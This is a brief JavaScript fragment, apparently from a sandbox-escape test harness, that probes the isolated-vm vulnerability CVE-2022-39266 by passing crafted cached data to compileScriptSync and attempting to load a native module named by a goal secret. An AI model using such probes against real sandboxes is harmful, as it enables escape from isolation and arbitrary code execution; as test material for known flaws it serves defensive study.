// GHSA-2jjq-x548-rhpv CVE-2022-39266
// Untrusted cached data or a module of the library from inside the isolate.
for (const name of ['ivm', '_ivm', 'isolatedVm', 'isolated_vm', '$0']) { try { const ivm = globalThis[name]; new ivm.Isolate().compileScriptSync('1', { cachedData: new ivm.ExternalCopy(new ArrayBuffer(64)) }); note(new ivm.NativeModule(GOAL.secret)); await useObject(ivm); } catch {} }
return found;
